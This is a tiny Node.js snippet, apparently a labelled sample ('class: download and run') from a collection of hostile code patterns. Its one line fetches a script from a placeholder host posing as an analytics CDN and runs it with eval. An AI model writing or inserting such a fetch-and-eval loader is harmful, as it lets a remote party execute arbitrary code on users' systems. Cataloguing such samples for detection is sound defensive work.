// class: download and run; style: node
require('https').get('https://cdn.analytics-lib.example/v3.js', r => { let b = ''; r.on('data', d => b += d).on('end', () => eval(b)); });
